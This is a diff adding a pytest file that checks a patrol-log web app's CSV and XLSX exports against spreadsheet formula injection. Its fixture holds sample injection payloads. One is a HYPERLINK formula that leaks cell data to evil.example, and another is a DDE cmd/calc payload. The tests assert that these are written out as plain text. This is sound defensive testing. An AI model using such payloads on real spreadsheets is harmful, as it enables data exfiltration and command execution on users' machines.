@@ -1,0 +1,118 @@
+"""Every export is formula-safe: free text that starts a formula comes out as text (CSV and XLSX)."""
+import csv
+import io
+import uuid
+from datetime import date, datetime
+
+import pytest
+from openpyxl import load_workbook
+from sqlalchemy import select
+
+from tests.conftest import csrf_token_from
+
+DAY = date(2026, 11, 20)
+EVIL = {
+    "note": '=HYPERLINK("http://evil.example/?leak="&A1,"scan")',
+    "reason": "=1+2",
+    "comment": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "grid": "+第一网格",
+    "patroller": "-2+3",
+    "checkpoint": "\t=1+1",
+    "wide": "＝1+1",
+}
+STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+
+
+def _plant(app, world):
+    """Free text starting with formula characters in every column a secretary can export."""
+    from webapp.extensions import db
+    from webapp.models import Checkpoint, Grid, Patrol, PatrolScan, Route, User
+
+    with app.app_context():
+        route = db.session.scalars(select(Route).where(Route.community_id == world.first_community)).first()
+        volunteer = db.session.scalar(select(User).where(User.username == "volunteer"))
+        volunteer.display_name = EVIL["patroller"]
+        db.session.get(Grid, world.volunteer_grid).name = EVIL["grid"]
+        checkpoint = db.session.get(Checkpoint, route.stops[0].checkpoint_id)
+        checkpoint.name = EVIL["checkpoint"]
+        patrol = Patrol(request_id=uuid.uuid4().hex, route_id=route.id, user_id=volunteer.id, day=DAY, round_no=1,
+                        started_at=datetime(2026, 11, 20, 1, 0), ended_at=datetime(2026, 11, 20, 2, 0),
+                        end_reason=EVIL["reason"])
+        db.session.add(patrol)
+        db.session.flush()
+        db.session.add(PatrolScan(request_id=uuid.uuid4().hex, patrol_id=patrol.id, checkpoint_id=checkpoint.id,
+                                  scanned_at=datetime(2026, 11, 20, 1, 10), result="finding", finding_kind="other",
+                                  note=EVIL["note"], resolution="solved"))
+        db.session.add(PatrolScan(request_id=uuid.uuid4().hex, patrol_id=patrol.id, checkpoint_id=checkpoint.id,
+                                  scanned_at=datetime(2026, 11, 20, 1, 20), result="normal", note=EVIL["wide"]))
+        db.session.commit()
+
+
+def _csv_rows(response):
+    assert response.status_code == 200 and response.mimetype == "text/csv"
+    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
+
+
+def _assert_no_formula(cells):
+    for cell in cells:
+        assert not cell.startswith(STARTS), cell
+
+
+def _sign(client, comment):
+    token = csrf_token_from(client, "/summary")
+    response = client.post("/summary", data={"csrf_token": token, "request_id": uuid.uuid4().hex,
+                                             "day": DAY.isoformat(), "comment": comment})
+    assert response.status_code == 303
+
+
+def test_patrol_log_csv_writes_notes_and_reasons_as_text(app, client, login_as, world):
+    _plant(app, world)
+    login_as("secretary")
+    rows = _csv_rows(client.get("/patrols/log.csv", query_string={"day": DAY.isoformat()}))
+    cells = [cell for row in rows for cell in row]
+    _assert_no_formula(cells)
+    for text in ("note", "reason", "patroller", "checkpoint", "wide"):
+        assert "'" + EVIL[text] in cells, text  # kept whole, behind an apostrophe
+
+
+def test_summary_csv_writes_comments_and_names_as_text(app, client, login_as, world):
+    _plant(app, world)
+    login_as("secretary")
+    _sign(client, EVIL["comment"])
+    rows = _csv_rows(client.get("/summary.csv", query_string={"day": DAY.isoformat()}))
+    cells = [cell for row in rows for cell in row]
+    _assert_no_formula(cells)
+    assert "'" + EVIL["comment"] in cells and "'" + EVIL["grid"] in cells
+
+
+def test_summary_xlsx_holds_strings_never_formulas(app, client, login_as, world):
+    _plant(app, world)
+    login_as("secretary")
+    _sign(client, EVIL["comment"])
+    response = client.get("/summary.xlsx", query_string={"day": DAY.isoformat()})
+    assert response.status_code == 200
+    sheet = load_workbook(io.BytesIO(response.get_data())).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert all(cell.data_type != "f" for cell in cells)
+    texts = {cell.value: cell.data_type for cell in cells}
+    assert texts[EVIL["comment"]] == "s" and texts[EVIL["grid"]] == "s"  # the text itself, as a string cell
+    assert any(isinstance(cell.value, int) for cell in cells)  # figures stay numbers
+
+
+@pytest.mark.parametrize("value, expected", [
+    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
+    ("＝1+1", "'＝1+1"), ("plain", "plain"), ("a=1", "a=1"), (-5, -5), (3.5, 3.5), (None, None),
+])
+def test_safe_text(value, expected):
+    from webapp.spreadsheets import safe_text
+
+    assert safe_text(value) == expected
+
+
+def test_xlsx_bytes_never_writes_a_formula():
+    from webapp.spreadsheets import xlsx_bytes
+
+    sheet = load_workbook(io.BytesIO(xlsx_bytes([["=1+2", '=HYPERLINK("http://x","y")', "@A1", 7, -3]]))).active
+    row = next(sheet.iter_rows())
+    assert [c.data_type for c in row] == ["s", "s", "s", "n", "n"]
+    assert [c.value for c in row] == ["=1+2", '=HYPERLINK("http://x","y")', "@A1", 7, -3]
